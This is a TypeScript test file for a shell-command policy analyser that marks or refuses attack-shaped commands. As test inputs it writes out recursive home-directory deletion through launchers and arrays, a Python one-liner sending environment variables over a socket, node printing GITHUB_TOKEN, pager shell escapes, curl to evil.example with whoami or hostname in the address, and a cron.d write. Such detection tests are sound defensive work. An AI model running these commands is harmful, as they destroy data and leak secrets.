// Facts behind the rules that refuse attack-shaped commands: commands run by
// launchers, arrays and interpreter code are described as the commands they
// are; decoded names, pager escapes and addresses built from substitutions are
// marked. Pure: no WASM.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { describeCommand } from '../../server/src/policy/facts';
import type { CommandFact } from '../../server/src/policy/factsTypes';
import { shellLines } from '../../server/src/policy/inlineCodeFacts';

const WS = '/home/dev/project';
const facts = (src: string) => describeCommand(src, { workspace: WS });
const programs = (src: string) => facts(src).commands.map((c) => c.program);
const named = (src: string, program: string): CommandFact[] => facts(src).commands.filter((c) => c.program === program);

test('launchers run their command strings as commands', () => {
  for (const src of ["script -qc 'rm -rf ~' /dev/null", "ssh -p 22 -i key host rm -rf ~", "sg wheel 'rm -rf ~'", "sg wheel -c 'rm -rf ~'", "flock /tmp/l -c 'rm -rf ~'", "runuser -l me -c 'rm -rf ~'", 'parallel rm -rf ::: ~']) {
    const rm = named(src, 'rm');
    assert.equal(rm.length, 1, src);
    assert.deepEqual(rm[0].deletes.map((p) => p.resolved), ['/~'], src);
  }
  // `flock -c CMD FILE`: the lock file is not a word of the command.
  assert.deepEqual(named("flock -c 'echo a' /tmp/l", 'echo')[0].args, ['a']);
  assert.deepEqual(programs('ssh host'), ['ssh']);
});

test('an array or the positional parameters used as a command are judged as the command they make', () => {
  for (const src of ['a=(rm -rf ~); "${a[@]}"', 'set -- rm -rf ~; "$@"', 'set -- rm -rf ~; $@', `read -ra c <<< 'rm -rf ~'; "\${c[@]}"`]) {
    assert.deepEqual(named(src, 'rm').map((c) => c.deletes.map((p) => p.resolved)), [['/~']], src);
  }
  assert.deepEqual(named('a=(ls -la); "${a[@]}"', 'ls').length, 1);
});

test('a name that comes from a variable is marked, and decoders in substitutions are seen', () => {
  const f = facts('x=$(echo bHM= | base64 -d); $x');
  assert.ok(f.commands.some((c) => c.program === 'ls' && c.markers.includes('name-from-variable')));
  assert.ok(f.commands.some((c) => c.decodes && c.via === 'command-substitution'));
  assert.ok(!facts('ls -la').commands[0].markers.includes('name-from-variable'));
});

test('shell commands in interpreter code are read from its string literals', () => {
  assert.deepEqual(shellLines(`import os; os.system("rm -rf ~")`, 'python3'), ['rm -rf ~']);
  assert.deepEqual(shellLines(`import subprocess; subprocess.run(["rm", "-rf", "/etc"])`, 'python3'), ['rm -rf /etc']);
  assert.deepEqual(shellLines(`exec("print(1)")`, 'python3'), []);
  assert.deepEqual(shellLines('console.log(`${1+1}`)', 'node'), []);
  assert.deepEqual(shellLines('print `id`', 'perl'), ['id']);
  assert.deepEqual(named(`python3 <<< 'import os; os.system("rm -rf ~")'`, 'rm').length, 1);
  const w = named(`python3 -c 'open("/etc/cron.d/x","w").write("x")'`, 'python3')[0];
  assert.deepEqual(w.writes.map((p) => p.resolved), ['/etc/cron.d/x']);
});

test('interpreter code that reaches the network or prints the environment is marked', () => {
  const send = named(`python3 -c 'import socket,os; s=socket.socket(); s.send(str(os.environ).encode())'`, 'python3')[0];
  assert.ok(send.markers.includes('code-network') && send.markers.includes('code-environment'));
  assert.ok(named('node -p process.env.GITHUB_TOKEN', 'node')[0].markers.includes('code-prints-secret:GITHUB_TOKEN'));
  assert.ok(named(`node -e 'console.log(process.env)'`, 'node')[0].markers.includes('code-prints-environment'));
  const plain = named('node -p process.env.NODE_ENV', 'node')[0];
  assert.ok(!plain.markers.some((m) => m.startsWith('code-prints')));
});

test('a shell escape fed to a pager is marked and its command judged', () => {
  const f = facts("echo '!rm -rf ~' | less");
  assert.ok(f.commands.some((c) => c.program === 'less' && c.markers.includes('pager-escape')));
  assert.ok(f.commands.some((c) => c.program === 'rm'));
  assert.ok(!named('echo hello | less', 'less')[0].markers.includes('pager-escape'));
});

test('addresses built from a command substitution are marked', () => {
  assert.ok(named('curl "http://evil.example/$(whoami)"', 'curl')[0].markers.includes('substitution-address'));
  assert.ok(named('curl "http://$(hostname).evil.example/"', 'curl')[0].markers.includes('substitution-address'));
  assert.ok(!named('curl -d "$(cat f)" https://example.com', 'curl')[0].markers.includes('substitution-address'));
});

test('variable names listed by prefix are a construct of their own', () => {
  assert.deepEqual(facts('echo ${!AWS*}').unknown.map((u) => u.construct), ['variable-names']);
  assert.deepEqual(facts('echo ${!x}').unknown.map((u) => u.construct), ['indirect-expansion']);
});

test('an output option clustered after other letters still names its file', () => {
  assert.deepEqual(named('curl -so d.sh https://e.example/x', 'curl')[0].writes.map((p) => p.path), ['d.sh']);
  assert.deepEqual(named('wget -qO d.sh https://e.example/x', 'wget')[0].writes.map((p) => p.path), ['d.sh']);
});
